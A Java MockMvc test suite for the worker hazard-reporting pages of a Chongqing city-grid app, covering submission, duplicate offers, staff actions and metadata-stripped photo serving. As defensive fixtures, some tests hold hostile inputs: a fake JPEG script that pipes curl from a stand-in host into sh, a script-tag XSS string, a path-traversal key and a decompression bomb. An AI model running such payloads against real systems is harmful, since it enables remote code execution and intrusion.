package org.nuanxin.grid.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.csrf;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.header;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import com.drew.imaging.ImageMetadataReader;
import com.drew.metadata.Metadata;
import com.drew.metadata.exif.ExifIFD0Directory;
import com.drew.metadata.exif.GpsDirectory;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.nuanxin.geo.CoordinateSystem;
import org.nuanxin.geo.CoordinateTransform;
import org.nuanxin.geo.Divisions;
import org.nuanxin.geo.GeoPoint;
import org.nuanxin.grid.HazardCategory;
import org.nuanxin.grid.ReportAction;
import org.nuanxin.grid.ReportState;
import org.nuanxin.grid.TestPhotos;
import org.nuanxin.grid.internal.Report;
import org.nuanxin.grid.internal.ReportService;
import org.nuanxin.grid.internal.StoredPhoto;
import org.nuanxin.membership.People;
import org.nuanxin.support.AsStaff;
import org.nuanxin.support.AsWorker;
import org.nuanxin.support.NuanxinTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.MvcResult;
import org.springframework.test.web.servlet.request.MockMultipartHttpServletRequestBuilder;

/**
 * The worker's hazard pages over HTTP (MockMvc, a signed-in worker): reporting in two steps with the "is it this
 * one?" offer, a retried submit, refusals shown beside their fields, the report's page and timeline after staff act,
 * and photos served back without their metadata.
 */
@NuanxinTest
@AutoConfigureMockMvc
class WorkerReportPagesTest {

    /** Seeded per run, so reports of earlier runs in the same database are not "nearby". */
    static final Random RANDOM = new Random(System.nanoTime());

    @Autowired
    MockMvc mvc;

    @Autowired
    ReportService reports;

    @Autowired
    Divisions divisions;

    @Autowired
    org.nuanxin.grid.PhotoIntake intake;

    /** A random WGS-84 point in 渝北区, far enough from other tests' reports. */
    GeoPoint somewhere() {
        return divisions.randomPointIn("500112", RANDOM);
    }

    static byte[] jpeg() {
        return TestPhotos.encode(TestPhotos.markedCorners(64, 48, 8), "jpeg");
    }

    static MockMultipartFile photo(byte[] bytes, String name) {
        return new MockMultipartFile("photo", name, "image/jpeg", bytes);
    }

    /** What a browser sends for a file input left empty. */
    static MockMultipartFile noFile() {
        return new MockMultipartFile("photo", "", "application/octet-stream", new byte[0]);
    }

    MockMultipartHttpServletRequestBuilder form(
            String mobile, HazardCategory category, GeoPoint wgs84, String description, String key) {
        MockMultipartHttpServletRequestBuilder b = multipart("/m/report");
        b.param("category", category.name())
                .param("lat", Double.toString(wgs84.latitude()))
                .param("lng", Double.toString(wgs84.longitude()))
                .param("crs", "wgs84")
                .param("description", description)
                .param("key", key)
                .with(csrf())
                .with(AsWorker.mobile(mobile));
        return b;
    }

    /** Submits with one photo; returns the report id from the redirect. */
    long submit(String mobile, HazardCategory category, GeoPoint wgs84, String description) throws Exception {
        MvcResult r = mvc.perform(form(
                                mobile,
                                category,
                                wgs84,
                                description,
                                java.util.UUID.randomUUID().toString())
                        .file(photo(jpeg(), "a.jpg"))
                        .file(noFile())
                        .file(noFile()))
                .andExpect(status().isFound())
                .andReturn();
        return idFrom(r);
    }

    static long idFrom(MvcResult r) {
        String location = r.getResponse().getRedirectedUrl();
        assertThat(location).matches("/m/reports/\\d+\\?sent");
        return Long.parseLong(location.substring("/m/reports/".length(), location.indexOf('?')));
    }

    Document page(String mobile, String url) throws Exception {
        String html = mvc.perform(get(url).with(AsWorker.mobile(mobile)))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
        return Jsoup.parse(html);
    }

    Document post(MockMultipartHttpServletRequestBuilder request) throws Exception {
        String html = mvc.perform(request)
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
        return Jsoup.parse(html);
    }

    Report act(long id, ReportAction action, ReportService.ActionInput input) {
        return AsStaff.call(() -> {
            Report r = reports.find(id).orElseThrow();
            return reports.act(id, r.version(), action, input);
        });
    }

    // ---- step 1 and step 2 ----

    @Test
    void theFirstStepOffersEveryCategoryAndADistrictWithoutJavaScript() throws Exception {
        Document d = page(People.mobile(), "/m/report");

        assertThat(d.select("input[name=category]")).hasSize(HazardCategory.values().length);
        assertThat(d.select(".nx-cat span").eachText()).contains("路面破损或塌陷", "井盖缺失或破损", "其他隐患");
        assertThat(d.select("form#report-start").attr("action")).isEqualTo("/m/report/new");
        assertThat(d.select("select#district option")).hasSizeGreaterThan(38);
        assertThat(d.select("input#lat")).hasSize(1);
        assertThat(d.select("select#crs option").eachAttr("value")).containsExactly("wgs84", "gcj02");
    }

    @Test
    void thePagesSpeakEnglishWhenAsked() throws Exception {
        Document d = page(People.mobile(), "/m/report?lang=en");
        assertThat(d.select("h1").text()).isEqualTo("Report a hazard");
        assertThat(d.select(".nx-cat span").eachText()).contains("Road surface damage or subsidence");
        assertThat(d.select("select#district option[value=500103]").text()).isEqualTo("渝中区 Yuzhong");
    }

    @Test
    void theSecondStepCarriesTheLocationAndANewKeyEachTime() throws Exception {
        String mobile = People.mobile();
        Document a = page(mobile, "/m/report/new?category=ROAD_SURFACE&district=500103");
        Document b = page(mobile, "/m/report/new?category=ROAD_SURFACE&district=500103");

        assertThat(a.select("#chosen-location").text()).contains("渝中区").contains("区县中心");
        assertThat(a.select("form#report-form").attr("enctype")).isEqualTo("multipart/form-data");
        assertThat(a.select("input[type=file][name=photo]").eachAttr("accept")).containsOnly("image/*");
        String key = a.select("input[name=key]").val();
        assertThat(key).matches("[0-9a-f-]{36}");
        assertThat(b.select("input[name=key]").val()).isNotEqualTo(key);
    }

    @Test
    void withoutACategoryOrPlaceTheFirstStepComesBackWithTheProblems() throws Exception {
        Document d = page(People.mobile(), "/m/report/new");

        assertThat(d.select("#category-error").text()).contains("类别");
        assertThat(d.select("#location-error").text()).contains("位置");
    }

    @Test
    void aPlaceOutsideChongqingIsRefusedOnTheLocation() throws Exception {
        String mobile = People.mobile();
        Document d = page(mobile, "/m/report/new?category=ROAD_SURFACE&lat=39.9042&lng=116.4074&crs=wgs84");
        assertThat(d.select("#location-error").text()).contains("不在重庆");
        assertThat(d.select("input[name=category][checked]").val()).isEqualTo("ROAD_SURFACE");

        int before = reports.mine(mobile).size();
        Document posted = post(form(mobile, HazardCategory.ROAD_SURFACE, GeoPoint.of(116.4074, 39.9042), "坑", "k")
                .file(photo(jpeg(), "a.jpg")));
        assertThat(posted.select("#location-error").text()).contains("不在重庆");
        assertThat(reports.mine(mobile)).hasSize(before);
    }

    @Test
    void openReportsOfTheSameCategoryNearbyAreOfferedBeforeANewOne() throws Exception {
        GeoPoint p = somewhere();
        long first = submit(People.mobile(), HazardCategory.MANHOLE_COVER, p, "井盖丢了");
        // 100 m north, typed as a GCJ-02 point (an AMap pick): converted before the search.
        GeoPoint near = CoordinateTransform.fromWgs84(
                GeoPoint.of(p.longitude(), p.latitude() + 0.0009), CoordinateSystem.GCJ02);
        String other = People.mobile();

        Document same = page(
                other,
                "/m/report/new?category=MANHOLE_COVER&lat=" + near.latitude() + "&lng=" + near.longitude()
                        + "&crs=gcj02");
        assertThat(same.select("#nearby-reports h2").text()).isEqualTo("是这个吗？");
        assertThat(same.select("#follow-" + first).attr("href")).isEqualTo("/m/report/" + first + "/follow");
        assertThat(same.select("#nearby-" + first + " .nx-desc").text()).isEqualTo("井盖丢了");
        assertThat(same.select("#nearby-" + first + " .nx-meta").text()).containsPattern("1\\d\\d 米");

        Document otherKind = page(
                other,
                "/m/report/new?category=STREET_LIGHT&lat=" + near.latitude() + "&lng=" + near.longitude()
                        + "&crs=gcj02");
        assertThat(otherKind.select("#follow-" + first)).isEmpty();

        // The fragment the first step's script fetches as the rider picks the place.
        String fragment = mvc.perform(get("/m/report/nearby?category=MANHOLE_COVER&lat=" + near.latitude() + "&lng="
                                + near.longitude() + "&crs=gcj02")
                        .with(AsWorker.mobile(other)))
                .andExpect(status().isOk())
                .andReturn()
                .getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
        assertThat(Jsoup.parse(fragment).select("#follow-" + first)).hasSize(1);
        assertThat(fragment).doesNotContain("<html");
    }

    @Test
    void aWorkerAddsThemselvesToAReportOfferedNearby() throws Exception {
        long id = submit(People.mobile(), HazardCategory.FALLEN_TREE, somewhere(), "树倒了挡住非机动车道");
        String follower = People.mobile();
        assertThat(mvc.perform(get("/m/reports/" + id).with(AsWorker.mobile(follower)))
                        .andReturn()
                        .getResponse()
                        .getStatus())
                .as("not theirs yet")
                .isEqualTo(404);

        Document form = page(follower, "/m/report/" + id + "/follow");
        assertThat(form.select("#follow-description").text()).isEqualTo("树倒了挡住非机动车道");
        mvc.perform(multipart("/m/report/" + id + "/follow")
                        .file(noFile())
                        .param("note", "还在，晚上很危险")
                        .with(csrf())
                        .with(AsWorker.mobile(follower)))
                .andExpect(status().isFound())
                .andExpect(header().string("Location", "/m/reports/" + id + "?followed"));

        assertThat(reports.mine(follower)).extracting(Report::id).contains(id);
        Document shown = page(follower, "/m/reports/" + id);
        assertThat(shown.select("#timeline .nx-note").eachText()).contains("还在，晚上很危险");
    }

    // ---- submitting ----

    @Test
    void aReportIsSubmittedAndItsPageShowsItWithItsPhoto() throws Exception {
        String mobile = People.mobile();
        GeoPoint p = somewhere();
        long id = submit(mobile, HazardCategory.ROAD_SURFACE, p, "路面下沉约20厘米，约1平方米");

        Report r = reports.mine(mobile, id).orElseThrow();
        assertThat(r.category()).isEqualTo(HazardCategory.ROAD_SURFACE);
        assertThat(r.state()).isEqualTo(ReportState.SUBMITTED);
        assertThat(r.districtCode()).isEqualTo("500112");
        assertThat(r.longitude()).isCloseTo(p.longitude(), org.assertj.core.data.Offset.offset(1e-6));
        assertThat(reports.photos(id)).hasSize(1);

        Document d = page(mobile, "/m/reports/" + id + "?sent");
        assertThat(d.select("#sent").text()).contains("已提交");
        assertThat(d.select("#state").text()).isEqualTo("待核实");
        assertThat(d.select("#description").text()).isEqualTo("路面下沉约20厘米，约1平方米");
        assertThat(d.select("#timeline li strong").eachText()).containsExactly("已上报");
        assertThat(d.select("#photos img").attr("src"))
                .isEqualTo("/m/reports/photos/" + reports.photos(id).get(0).key());
        assertThat(d.select("#map-link").attr("href")).startsWith("https://uri.amap.com/marker?position=");

        Document list = page(mobile, "/m/reports");
        assertThat(list.select("#report-" + id + " .nx-state").text()).isEqualTo("待核实");
    }

    @Test
    void aRetriedSubmitWithTheSameKeyIsOneReportAndTheSamePage() throws Exception {
        String mobile = People.mobile();
        GeoPoint p = somewhere();
        String key = java.util.UUID.randomUUID().toString();

        MvcResult first = mvc.perform(form(mobile, HazardCategory.WATERLOGGING, p, "积水没过脚踝", key)
                        .file(photo(jpeg(), "a.jpg")))
                .andExpect(status().isFound())
                .andReturn();
        MvcResult retry = mvc.perform(form(mobile, HazardCategory.WATERLOGGING, p, "积水没过脚踝", key)
                        .file(photo(jpeg(), "a.jpg")))
                .andExpect(status().isFound())
                .andReturn();

        // the same report, and the page says this form was sent before (a rider who pressed Back and changed the
        // form must not believe a second report went out)
        assertThat(first.getResponse().getRedirectedUrl()).endsWith("?sent");
        assertThat(retry.getResponse().getRedirectedUrl())
                .isEqualTo(first.getResponse().getRedirectedUrl().replace("?sent", "?again"));
        assertThat(page(mobile, retry.getResponse().getRedirectedUrl())
                        .select("#again")
                        .text())
                .startsWith("这张表已经提交过");
        assertThat(reports.mine(mobile)).hasSize(1);
        assertThat(reports.photos(idFrom(first))).hasSize(1);
    }

    @Test
    void aScriptNamedJpgIsRefusedBesideThePhotoAndTheFormKeepsWhatWasTyped() throws Exception {
        String mobile = People.mobile();
        byte[] script = "#!/bin/sh\ncurl http://example.invalid | sh\n".getBytes(StandardCharsets.US_ASCII);

        Document d = post(form(mobile, HazardCategory.BLOCKED_LANE, somewhere(), "电动车道被货车占了", "key-1")
                .file(photo(script, "photo.jpg")));

        assertThat(d.select("#photo-error").text()).contains("文本文件").contains("JPEG");
        assertThat(d.select("#photo1").attr("aria-invalid")).isEqualTo("true");
        assertThat(d.select("#photos-again").text()).contains("重新选择");
        assertThat(d.select("#description").text()).isEqualTo("电动车道被货车占了");
        assertThat(d.select("input[name=key]").val()).isEqualTo("key-1");
        assertThat(d.select("#chosen-category").text()).isEqualTo("车道被占");
        assertThat(reports.mine(mobile)).isEmpty();
    }

    @Test
    void aDecompressionBombIsRefusedBesideThePhoto() throws Exception {
        String mobile = People.mobile();
        byte[] bomb = TestPhotos.encode(new BufferedImage(20_000, 20_000, BufferedImage.TYPE_BYTE_BINARY), "png");

        Document d = post(form(mobile, HazardCategory.OTHER, somewhere(), "路中间有个大坑", "key-2")
                .file(photo(bomb, "big.png")));

        assertThat(d.select("#photo-error").text()).contains("百万像素");
        assertThat(reports.mine(mobile)).isEmpty();
    }

    @Test
    void aReportNeedsAPhotoAndAtMostThree() throws Exception {
        String mobile = People.mobile();
        Document none = post(form(mobile, HazardCategory.OTHER, somewhere(), "坑", "k-none")
                .file(noFile())
                .file(noFile()));
        assertThat(none.select("#photo-error").text()).contains("至少");
        assertThat(none.select("#photos-again")).isEmpty();

        MockMultipartHttpServletRequestBuilder four = form(mobile, HazardCategory.OTHER, somewhere(), "坑", "k-four");
        for (int i = 0; i < 4; i++) {
            four.file(photo(jpeg(), i + ".jpg"));
        }
        assertThat(post(four).select("#photo-error").text()).contains("3");
        assertThat(reports.mine(mobile)).isEmpty();
    }

    @Test
    void anOversizedDescriptionIsRefusedBesideIt() throws Exception {
        String mobile = People.mobile();
        String long501 = "坑".repeat(ReportService.MAX_DESCRIPTION + 1);

        Document d = post(form(mobile, HazardCategory.ROAD_SURFACE, somewhere(), long501, "k-long")
                .file(photo(jpeg(), "a.jpg")));

        assertThat(d.select("#description-error").text()).isNotBlank();
        assertThat(d.select("#description").attr("aria-invalid")).isEqualTo("true");
        assertThat(d.select("#description").text()).isEqualTo(long501);
        assertThat(reports.mine(mobile)).isEmpty();
    }

    @Test
    void htmlInADescriptionIsShownAsText() throws Exception {
        String mobile = People.mobile();
        String html = "<script>alert('x')</script><b>坑</b>";
        long id = submit(mobile, HazardCategory.OTHER, somewhere(), html);

        String page = mvc.perform(get("/m/reports/" + id).with(AsWorker.mobile(mobile)))
                .andReturn()
                .getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
        assertThat(page).doesNotContain("<script>alert").doesNotContain("<b>坑</b>");
        assertThat(Jsoup.parse(page).select("#description").text()).isEqualTo(html);
        String list = mvc.perform(get("/m/reports").with(AsWorker.mobile(mobile)))
                .andReturn()
                .getResponse()
                .getContentAsString(StandardCharsets.UTF_8);
        assertThat(list).doesNotContain("<script>alert");
    }

    // ---- photos served back ----

    @Test
    void aJpegWithGpsIsServedBackWithoutItsMetadataAsAnImageOnly() throws Exception {
        String mobile = People.mobile();
        byte[] phone = TestPhotos.withSegments(
                jpeg(), TestPhotos.exifSegment(new TestPhotos.Exif("Apple", "iPhone 15 Pro", 1, true)));
        assertThat(ImageMetadataReader.readMetadata(new ByteArrayInputStream(phone))
                        .getFirstDirectoryOfType(GpsDirectory.class))
                .as("the upload carries a position")
                .isNotNull();
        MvcResult done = mvc.perform(form(mobile, HazardCategory.STREET_LIGHT, somewhere(), "路灯不亮", "k-gps")
                        .file(photo(phone, "IMG_0001.jpg")))
                .andExpect(status().isFound())
                .andReturn();
        StoredPhoto stored = reports.photos(idFrom(done)).get(0);

        // Anonymous, as an Open311 client or a staff page's <img> would fetch it.
        MvcResult served = mvc.perform(get("/m/reports/photos/" + stored.key()))
                .andExpect(status().isOk())
                .andReturn();

        var response = served.getResponse();
        assertThat(response.getContentType()).isEqualTo("image/jpeg");
        assertThat(response.getHeader("X-Content-Type-Options")).isEqualTo("nosniff");
        assertThat(response.getHeader("Content-Disposition")).startsWith("inline");
        assertThat(response.getHeaders("Content-Security-Policy")).anyMatch(v -> v.contains("sandbox"));
        assertThat(response.getHeader("Cache-Control")).contains("immutable").contains("max-age=31536000");
        assertThat(served.getRequest().getSession(false)).as("no session").isNull();
        assertThat(response.getHeaders("Content-Security-Policy")).hasSize(1);
        String etag = response.getHeader("ETag");
        assertThat(etag).isNotBlank();
        mvc.perform(get("/m/reports/photos/" + stored.key()).header("If-None-Match", etag))
                .andExpect(status().isNotModified());
        byte[] bytes = response.getContentAsByteArray();
        assertThat(bytes).startsWith(0xFF, 0xD8);
        Metadata metadata = ImageMetadataReader.readMetadata(new ByteArrayInputStream(bytes));
        assertThat(metadata.getFirstDirectoryOfType(GpsDirectory.class)).isNull();
        assertThat(metadata.getFirstDirectoryOfType(ExifIFD0Directory.class)).isNull();
    }

    @Test
    void unknownAndMalformedPhotoKeysAreNotFound() throws Exception {
        mvc.perform(get("/m/reports/photos/" + java.util.UUID.randomUUID())).andExpect(status().isNotFound());
        mvc.perform(get("/m/reports/photos/not-a-key")).andExpect(status().isNotFound());
        mvc.perform(get("/m/reports/photos/..%2F..%2Fetc")).andExpect(status().is4xxClientError());
    }

    // ---- after staff act ----

    @Test
    void theTimelineShowsVerifiedForwardedAndFixedWithTheFixersNoteAndPhoto() throws Exception {
        String mobile = People.mobile();
        long id = submit(mobile, HazardCategory.ROAD_SURFACE, somewhere(), "路面塌陷");
        act(id, ReportAction.VERIFY, ReportService.ActionInput.note(""));
        act(id, ReportAction.FORWARD, new ReportService.ActionInput("", "渝北区市政设施管理所", null, null));

        Document list = page(mobile, "/m/reports");
        assertThat(list.select("#unread").text()).isEqualTo("2");
        assertThat(list.select("#notices li.nx-new")).hasSize(2);
        assertThat(list.select("#report-" + id + " .nx-state").text()).isEqualTo("已转交");

        var fixPhoto = intake.accept(new ByteArrayInputStream(jpeg()));
        act(id, ReportAction.FIX, new ReportService.ActionInput("已回填压实，恢复通行", null, null, fixPhoto));

        Document d = page(mobile, "/m/reports/" + id);
        assertThat(d.select("#state").text()).isEqualTo("已修复");
        assertThat(d.select("#timeline li strong").eachText()).containsExactly("已上报", "已核实", "已转交", "已修复");
        assertThat(d.select("#timeline li.nx-step-FORWARDED").text()).contains("转交给：渝北区市政设施管理所");
        assertThat(d.select("#timeline li.nx-step-FIXED .nx-note").text()).isEqualTo("已回填压实，恢复通行");
        assertThat(d.select("#timeline li.nx-step-FIXED img").attr("src")).startsWith("/m/reports/photos/");
        // Opening it marked its notices read.
        assertThat(reports.unreadNotifications(mobile)).isZero();
        assertThat(page(mobile, "/m/reports").select("#unread")).isEmpty();
    }

    @Test
    void aRejectedReportShowsTheReason() throws Exception {
        String mobile = People.mobile();
        long id = submit(mobile, HazardCategory.OTHER, somewhere(), "有人乱停车");
        act(id, ReportAction.REJECT, ReportService.ActionInput.note("不属于道路安全隐患，请拨打12345"));

        Document d = page(mobile, "/m/reports/" + id);
        assertThat(d.select("#state").text()).isEqualTo("未受理");
        assertThat(d.select("#timeline li.nx-step-REJECTED .nx-note").text()).isEqualTo("不属于道路安全隐患，请拨打12345");
        // A closed report can no longer be joined: the page says so and offers a new report at the same place
        Document closed = page(People.mobile(), "/m/report/" + id + "/follow");
        assertThat(closed.select("#closed").text()).startsWith("这条上报刚刚已经办结");
        assertThat(closed.select("#report-new").attr("href")).startsWith("/m/report/new?category=other&lat=");
        assertThat(closed.select("form")).isEmpty();
    }

    @Test
    void joiningAReportClosedMeanwhileKeepsWhatTheRiderWrote() throws Exception {
        long id = submit(People.mobile(), HazardCategory.OTHER, somewhere(), "井盖松动");
        act(id, ReportAction.REJECT, ReportService.ActionInput.note("已由其他渠道处理"));

        MvcResult r = mvc.perform(multipart("/m/report/" + id + "/follow")
                        .param("note", "今天又看到了，越来越松")
                        .with(AsWorker.mobile(People.mobile()))
                        .with(csrf()))
                .andExpect(status().isOk())
                .andReturn();

        Document d = org.jsoup.Jsoup.parse(r.getResponse().getContentAsString());
        assertThat(d.select("#closed")).hasSize(1);
        assertThat(d.select("#kept-note").text()).isEqualTo("今天又看到了，越来越松");
        assertThat(reports.timeline(id)).extracting(t -> t.kind().name()).doesNotContain("FOLLOWED");
    }

    @Test
    void anotherWorkersReportIsNotFound() throws Exception {
        long id = submit(People.mobile(), HazardCategory.OTHER, somewhere(), "坑");
        mvc.perform(get("/m/reports/" + id).with(AsWorker.mobile(People.mobile())))
                .andExpect(status().isNotFound());
        mvc.perform(get("/m/reports/999999999").with(AsWorker.mobile(People.mobile())))
                .andExpect(status().isNotFound());
    }

    @Test
    void anonymousVisitorsAreSentToTheWorkerSignIn() throws Exception {
        for (String path : List.of("/m/report", "/m/reports", "/m/reports/1", "/m/grid")) {
            String location = mvc.perform(get(path))
                    .andExpect(status().isFound())
                    .andReturn()
                    .getResponse()
                    .getRedirectedUrl();
            assertThat(location).as(path).startsWith("/m/signin");
        }
    }
}
